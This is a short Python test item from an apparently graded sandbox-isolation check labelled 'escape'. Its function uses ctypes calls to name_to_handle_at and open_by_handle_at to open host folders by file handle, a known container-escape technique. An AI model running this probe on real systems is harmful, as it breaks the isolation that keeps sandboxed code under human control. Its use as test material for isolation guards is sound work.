# verdict: AC — opens a folder of the host by its handle instead of its name
# task: escape
# row: S28 S49
# guard: isolation WA
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def escape(bait):
    handle = ctypes.create_string_buffer(8 + 128)
    mount = ctypes.c_int()
    reached = []
    for path in ("/", "/usr", "/tmp", "."):
        ctypes.memset(handle, 0, 136)
        handle[0] = 128
        libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount), 0)
        if libc.open_by_handle_at(os.open(".", os.O_RDONLY), handle, os.O_RDONLY) >= 0:
            reached.append(f"opened {path} by its handle")
    return reached
